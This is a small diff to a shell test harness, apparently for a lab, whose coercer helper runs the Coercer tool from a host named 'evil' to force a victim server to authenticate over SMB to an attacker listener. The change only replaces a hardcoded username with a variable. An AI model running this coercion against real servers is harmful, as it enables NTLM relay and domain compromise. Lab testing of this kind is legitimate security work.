@@ -72,7 +72,7 @@ call() { in_host evil timeout 30 "$IMPACKET/python" "$HERE/call.py" "$@" > "$RUN
 
 # coercer ARGUMENTS...: the real tool, against the victim
 coercer() {
-  in_host evil timeout 60 "$COERCER/coercer" coerce --always-continue -u alice -p "$ALICE_PW" -d $DOMAIN \
+  in_host evil timeout 60 "$COERCER/coercer" coerce --always-continue -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN \
     -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc "$@" > "$RUN/coercer.log" 2>&1 || true
 }
 
